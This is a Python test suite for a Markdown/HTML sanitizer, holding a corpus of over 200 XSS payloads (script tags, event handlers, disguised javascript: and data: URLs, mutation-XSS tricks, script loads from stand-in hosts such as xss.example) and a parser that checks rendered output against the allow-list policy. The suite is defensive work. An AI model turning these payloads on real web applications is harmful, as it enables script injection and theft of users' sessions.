"""A hostile-input corpus for ``portal.markup.render``, checked by parsing the output.

The policy (see ``portal/markup.py``): only allow-listed elements and attributes survive, no
``on*`` handlers, no ``style`` attribute, and every ``href``/``src`` is relative or uses http,
https or mailto, even when the scheme is disguised with entities, case, whitespace, control or
invisible (zero-width, soft-hyphen, bidi) characters.
"""

from __future__ import annotations

import re
import unicodedata
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from portal import markup

ALLOWED_SCHEMES = {"http", "https", "mailto"}
URL_ATTRIBUTES = {"href", "src", "srcset", "action", "formaction", "xlink:href", "background",
                  "poster", "data", "cite", "codebase", "dynsrc", "lowsrc", "longdesc"}
# Characters a reader could not see, or a URL parser might drop: C0/C1 controls, format
# characters (zero-width, soft hyphen, bidi marks/overrides/isolates, BOM) and all whitespace.
_INVISIBLE_CATEGORIES = {"Cc", "Cf", "Zs", "Zl", "Zp"}
_SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")

B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
B64_SVG = "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"  # <svg onload=alert(1)>
DEC_JS = "".join(f"&#{ord(c)};" for c in "javascript:alert('XSS')")
DEC_JS_PADDED = "".join(f"&#{ord(c):07d}" for c in "javascript:alert('XSS')")
HEX_JS = "".join(f"&#x{ord(c):X}" for c in "javascript:alert('XSS')")

HOSTILE: list[str] = [
    # --- classic script injection -------------------------------------------------------
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
    "<SCRIPT SRC=//xss.example/.j>",
    "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<scri\0pt>alert(1)</scri\0pt>",
    "<script\x0c>alert(1)</script>",
    "<script type=module>import 'https://evil.example/x.js'</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml-stylesheet href="javascript:alert(1)"?>',
    # --- img / event handlers ----------------------------------------------------------
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    f"<IMG SRC={DEC_JS}>",
    f"<IMG SRC={DEC_JS_PADDED}>",
    f"<IMG SRC={HEX_JS}>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<IMG SRC=\"java\0script:alert('XSS');\">",
    "<IMG SRC=\"javascript:alert('XSS')\"",
    "<img src=x onerror=alert(1)//",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" alt="x" onerror  =  alert(1)>',
    '<img src="https://ok.example/x.png" srcset="javascript:alert(1) 1x">',
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "<BODY ONLOAD=alert('XSS')>",
    "<body onpageshow=alert(1)>",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    # --- svg / math --------------------------------------------------------------------
    "<svg/onload=alert('XSS')>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    f'<svg><use href="data:image/svg+xml;base64,{B64_SVG}#x"/></svg>',
    "<svg><set attributeName=href to=javascript:alert(1) /></svg>",
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mi xlink:href="javascript:alert(1)">click</mi></math>',
    '<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(2)">CLICK'
    "</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<a href="https://ok.example"><svg onload=alert(1)></a>',
    # --- frames, objects, embeds, applets ------------------------------------------------
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe src=javascript:alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    "<iframe src=http://xss.example/scriptlet.html <",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>',
    '<object data="javascript:alert(1)"></object>',
    f'<EMBED SRC="data:image/svg+xml;base64,{B64_SVG}" type="image/svg+xml"></EMBED>',
    '<embed src="javascript:alert(1)">',
    '<applet code="x.class" codebase="javascript:alert(1)"></applet>',
    # --- forms and interactive elements -------------------------------------------------
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<form><button formaction="javascript:alert(1)">X</button></form>',
    '<isindex action="javascript:alert(1)" type=image>',
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    "<details><summary onclick=alert(1)>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<video><source onerror="alert(1)"></video>',
    "<video src=x onerror=alert(1)></video>",
    '<video poster="javascript:alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    # --- style, meta, base, link -------------------------------------------------------
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
    '<th style="x:expression(alert(1))">x</th>',
    '<a href="https://ok.example" style="position:fixed;top:0;left:0;width:100%;height:100%">',
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    '<link rel=import href="https://evil.example/x.html">',
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    f'<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,{B64_SCRIPT}">',
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<base href="https://evil.example/">',
    # --- raw-text / template mXSS ------------------------------------------------------
    "<template><script>alert(1)</script></template>",
    "<template><img src=x onerror=alert(1)></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
    '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><a title="</title><img src=x onerror=alert(1)>"></a></title>',
    "<div><style><img src=x onerror=alert(1)></style></div>",
    '<div markdown="1">[x](javascript:alert(1))</div>',
    # --- handlers on allowed tags -------------------------------------------------------
    '<a href="https://ok.example" onmouseover="alert(1)">ok</a>',
    "<a href=javascript:alert(1) onclick=alert(2)>x</a>",
    "<a id=x tabindex=1 onfocus=alert(1) autofocus>x</a>",
    '<a href="https://ok.example"\n onclick="alert(1)">x</a>',
    "<span onclick=alert(1)>x</span>",
    '<h2 onclick="alert(1)" id="x">x</h2>',
    "<p/onclick=alert(1)>x</p>",
    "<del datetime=x onmouseover=alert(1)>x</del>",
    '<table><tr><td onmouseover=alert(1) background="javascript:alert(1)">x</td></tr></table>',
    '<q cite="javascript:alert(1)">x</q>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<img src="https://ok.example/x.png" onerror="alert(1)"',
    # --- hostile schemes in raw <a href> ------------------------------------------------
    '<a href="javascript:alert(1)">x</a>',
    "<a href='javascript:alert(1)'>x</a>",
    '<a href="javascript:alert(1)',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="&#x26;#106;avascript:alert(1)">x</a>',
    '<a href="javas&#99;ript:alert(1)">x</a>',
    '<a href="javas&#x63ript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="jAvAsCrIpT&colon;alert&lpar;1&rpar;">x</a>',
    '<a href="java&NewLine;script:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="&#x1;javascript:alert(1)">x</a>',
    '<a href="\0javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="javascript\x0b:alert(1)">x</a>',
    '<a href="ja\x00vascript:alert(1)">x</a>',
    '<a href="java\u200bscript:alert(1)">x</a>',
    '<a href="java&#x200b;script:alert(1)">x</a>',
    '<a href="java&shy;script:alert(1)">x</a>',
    '<a href="&#x202e;javascript:alert(1)">x</a>',
    '<a href="javascript://%0aalert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    f'<a href="data:text/html;base64,{B64_SCRIPT}">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="ｊａｖａｓｃｒｉｐｔ：alert(1)">x</a>',
    # --- Markdown links and images ------------------------------------------------------
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    '[x](javascript:alert(1) "title")',
    "[x](javascript://%0Aalert(1))",
    "![x](javascript:alert(1))",
    "![x](JAVASCRIPT:alert(1))",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x][1]\n\n[1]: <javascript:alert(1)> "t"',
    "[x][1]\n\n[1]: JaVaScRiPt:alert(1)",
    "![x][img]\n\n[img]: javascript:alert(1)",
    "[javascript:alert(1)]\n\n[javascript:alert(1)]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    f"[x](data:text/html;base64,{B64_SCRIPT})",
    f"![x](data:image/svg+xml;base64,{B64_SVG})",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/path)",
    "[x](\\\\evil.example)",
    # --- encoded schemes in Markdown ----------------------------------------------------
    "[x](java\tscript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java\0script:alert(1))",
    "[x](java\rscript:alert(1))",
    "[x](java\x0bscript:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](java&#9;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#106avascript:alert(1))",
    "[x](&#x6a;avascript:alert(1))",
    "[x](&#X6A;avascript:alert(1))",
    "[x](&#0000106;avascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&#x3a;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&amp;#106;avascript:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](%6A%61%76%61%73%63%72%69%70%74%3Aalert(1))",
    "[x](java%C0%BAscript:alert(1))",
    "[x](%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE)",
    f"[x]({DEC_JS_PADDED})",
    f"[x]({HEX_JS})",
    # --- invisible characters inside scheme names --------------------------------------
    "[x](java\u200bscript:alert(1))",
    "[x](java\u200cscript:alert(1))",
    "[x](java\u200dscript:alert(1))",
    "[x](java\u00adscript:alert(1))",
    "[x](\u202ejavascript:alert(1))",
    "[x](java\u202escript:alert(1))",
    "[x](java\u2060script:alert(1))",
    "[x](java\ufeffscript:alert(1))",
    "[x](java\u2066script:alert(1))",
    "[x](java\u2069script:alert(1))",
    "[x](java\u061cscript:alert(1))",
    "[x](java\u180escript:alert(1))",
    "[x](javascript\u200b:alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](java\u3000script:alert(1))",
    "![x](java\u200bscript:alert(1))",
    "[x][1]\n\n[1]: java\u00adscript:alert(1)",
    "<java\u200bscript:alert(1)>",
    # --- attr_list injection -----------------------------------------------------------
    'A paragraph\n{: onclick="alert(1)"}',
    'A paragraph\n{: style="background:url(javascript:alert(1))"}',
    '## Heading {: onclick="alert(1)" }',
    '## Heading {: style="color:red" }',
    "## Heading {: #id .cls onfocus=alert(1) tabindex=1 autofocus }",
    '## Heading {: id="x" onmouseover=alert(1) }',
    '[x](https://ok.example){: onclick="alert(1)"}',
    '[x](https://ok.example){: href="javascript:alert(1)"}',
    '[x](https://ok.example){: style="position:fixed;inset:0"}',
    '[x](https://ok.example){: formaction="javascript:alert(1)"}',
    '![x](https://ok.example/x.png){: onerror="alert(1)"}',
    '![x](https://ok.example/x.png){: src="javascript:alert(1)"}',
    "*em*{: onmouseover=alert(1)}",
    "- item\n{: onclick=alert(1)}",
    "| a |\n|---|\n| b {: onclick=alert(1)} |",
    '```{ .js onclick="alert(1)" }\nx\n```',
    "``` { #x style=\"color:red\" }\nx\n```",
    "```js onload=alert(1)\nx\n```",
    # --- HTML inside tables, lists, quotes and code -------------------------------------
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "| a | b |\n|---|---|\n| [x](javascript:alert(1)) | <a href=javascript:alert(1)>y</a> |",
    "| <svg onload=alert(1)> | b |\n|---|---|\n| 1 | 2 |",
    "```html\n<script>alert(1)</script>\n```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "``</code><script>alert(1)</script>``",
    "> <script>alert(1)</script>\n> [x](javascript:alert(1))",
    "* [x](javascript:alert(1))\n* <img src=x onerror=alert(1)>",
    "1. <iframe src=javascript:alert(1)>\n2. two",
    "[TOC]\n\n## <script>alert(1)</script>",
    "## <img src=x onerror=alert(1)>",
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    '[x](https://ok.example "title\\" onmouseover=\\"alert(1)")',
    "[x](https://ok.example 'a' onclick='alert(1)')",
    '![x" onerror="alert(1)](https://ok.example/x.png)',
    '![x](https://ok.example/x.png"onerror="alert(1))',
    '[x](https://ok.example/"><script>alert(1)</script>)',
    "**<script>**alert(1)**</script>**",
    "<scr\n\nipt>alert(1)</script>",
]


class _PolicyParser(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in markup.ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        allowed = markup.ALLOWED_ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"event handler {name}= on <{tag}>")
            if name == "style":
                self.problems.append(f"style= on <{tag}>")
            if name not in allowed:
                self.problems.append(f"attribute {name}= not allowed on <{tag}>")
            if name in URL_ATTRIBUTES and (scheme := url_scheme(value or "")) is not None:
                if scheme not in ALLOWED_SCHEMES:
                    self.problems.append(f"{name}={value!r} has scheme {scheme!r}")

    def handle_endtag(self, tag):
        if tag not in markup.ALLOWED_TAGS:
            self.problems.append(f"end tag </{tag}>")

    def handle_comment(self, data):
        self.problems.append(f"comment {data!r}")

    def handle_decl(self, decl):
        self.problems.append(f"declaration {decl!r}")

    def handle_pi(self, data):
        self.problems.append(f"processing instruction {data!r}")

    def unknown_decl(self, data):
        self.problems.append(f"unknown declaration {data!r}")


def url_scheme(value: str) -> str | None:
    """The scheme a URL would have once every disguise is peeled off, or None if relative.

    ``value`` comes from ``HTMLParser``, which has already HTML-unescaped it exactly once, as a
    browser does (so ``&amp;#106;`` is the literal text ``&#106;``, a relative path, and is
    not decoded again). Every whitespace, control and invisible format character is then
    removed anywhere in it, and it is lower-cased."""
    value = "".join(c for c in value if unicodedata.category(c) not in _INVISIBLE_CATEGORIES)
    match = _SCHEME.match(value.lower())
    return match.group(1) if match else None


def policy_problems(output: str) -> list[str]:
    parser = _PolicyParser()
    parser.feed(output)
    parser.close()
    problems = parser.problems
    if "<script" in output.lower():
        problems.append("literal <script in output")
    return problems


def assert_safe(source: str) -> str:
    output = str(markup.render(source))
    assert policy_problems(output) == [], (source, output)
    return output


def test_corpus_is_large_and_distinct():
    assert len(HOSTILE) >= 120
    assert len(set(HOSTILE)) == len(HOSTILE)


@pytest.mark.parametrize("source", HOSTILE, ids=[f"hostile-{i:03d}" for i in range(len(HOSTILE))])
def test_hostile_input_renders_within_policy(source):
    assert_safe(source)


@pytest.mark.parametrize("bad", [
    "<script>alert(1)</script>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="java\u00adscript:alert(1)">x</a>',
    '<a href="java&#x200b;script:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<img src="x" onerror="alert(1)">',
    '<p style="color:red">x</p>',
    '<a href="data:text/html,x">x</a>',
    "<svg></svg>",
    "<!-- x -->",
])
def test_policy_checker_is_not_vacuous(bad):
    assert policy_problems(bad)


# --- safe Markdown survives ---------------------------------------------------------------

def test_headings_keep_ids():
    output = assert_safe("## Water at home\n\n### 节约用水\n")
    assert '<h2 id="water-at-home">Water at home</h2>' in output
    assert '<h3 id="节约用水">节约用水</h3>' in output


def test_https_and_mailto_links_stay():
    output = assert_safe("[site](https://ok.example/path?q=1&r=2) and "
                         "[mail](mailto:team@example.org)")
    assert 'href="https://ok.example/path?q=1&amp;r=2"' in output
    assert 'href="mailto:team@example.org"' in output
    assert 'rel="noopener noreferrer nofollow"' in output


def test_relative_links_and_images_stay():
    output = assert_safe("[a](/events/12) [b](../learn/water.html#top) [c](#section) "
                         "![pic](/static/img/river.jpg)")
    for url in ("/events/12", "../learn/water.html#top", "#section"):
        assert f'href="{url}"' in output
    assert 'src="/static/img/river.jpg"' in output and 'alt="pic"' in output


def test_invisible_characters_after_an_allowed_scheme_keep_the_link():
    output = assert_safe('<a href="https://ok.example/a&#x200b;b">x</a> '
                         '<a href="/files/report 2024.pdf">y</a>')
    assert 'href="https://ok.example/a\u200bb"' in output
    assert 'href="/files/report 2024.pdf"' in output


def test_protocol_relative_link_is_only_a_plain_link():
    output = assert_safe("[x](//evil.example/path)")
    assert output == ('<p><a href="//evil.example/path" rel="noopener noreferrer nofollow">'
                      "x</a></p>")


def test_tables_render():
    output = assert_safe("| 项目 | 数量 |\n|---|---:|\n| 回收瓶 | 12 |\n")
    assert "<table>" in output and "<th>项目</th>" in output and "<td>回收瓶</td>" in output


def test_code_blocks_are_escaped_text():
    output = assert_safe("```html\n<script>alert(1)</script>\n```\n\n`<b>x</b>`")
    assert "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;" in output
    assert "<code>&lt;b&gt;x&lt;/b&gt;</code>" in output


def test_chinese_text_is_intact():
    text = "嘉兴绿色社区：节约用水，从我做起。垃圾分类，人人有责！"
    assert assert_safe(text) == f"<p>{text}</p>"


# --- property tests ----------------------------------------------------------------------

FRAGMENTS = st.sampled_from([
    "<", ">", "</", "/>", '"', "'", "`", "=", " ", "\t", "\n", "\n\n", "\0", "\x0b",
    "javascript:", "JaVaScRiPt:", "java", "script", ":", "&#", "&#x", "106;", "6A;", "&colon;",
    "&amp;", "%3A", "data:", "vbscript:", "alert(1)", "[", "](", ")", "]", "![", "]: ", "[1]",
    "{:", "}", "{: ", "on", "onerror", "onclick", "style", "href", "src", "a", "img", "script",
    "svg", "iframe", "p", "h2", "## ", "```", "`", "|", "---", "* ", "> ", "#", ".", "-",
    "\u200b", "\u200c", "\u200d", "\u00ad", "\u202e", "\u2066", "\ufeff", "\u2060", "\u180e",
    "节约", "https://ok.example", "mailto:x@example.org", "//evil.example",
])
MIXED = st.lists(st.one_of(FRAGMENTS, st.text(max_size=3)), max_size=40).map("".join)


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_any_text_renders_within_policy(source):
    assert_safe(source)


@settings(max_examples=300, deadline=None)
@given(MIXED)
def test_hostile_fragment_soup_renders_within_policy(source):
    assert_safe(source)
